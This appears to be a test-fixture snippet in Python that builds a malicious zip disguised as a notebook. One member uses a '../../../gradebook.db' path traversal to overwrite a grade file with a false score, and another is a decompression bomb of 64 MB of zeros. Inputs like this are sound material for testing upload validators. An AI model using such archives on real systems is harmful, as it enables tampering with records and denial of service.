"""A zip file, with paths that lead out of its folder and a member that unpacks to a thousand times its size, named as a notebook."""
# control: stock
# %% attack on the file
import zipfile
with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../../../gradebook.db", "ada has 10 points")
    archive.writestr("cs231n/rnn_layers.py", bytes(1 << 26))
